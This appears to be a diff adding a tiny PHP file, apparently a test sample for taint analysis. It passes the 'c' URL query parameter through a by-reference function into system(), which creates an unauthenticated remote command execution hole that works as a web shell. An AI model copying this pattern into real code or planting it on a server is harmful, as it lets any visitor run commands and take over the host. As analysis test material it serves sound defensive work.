@@ -1,0 +1,4 @@
+<?php
+function f(&$c) { $c = $_GET["c"]; }
+f($c);
+system($c);
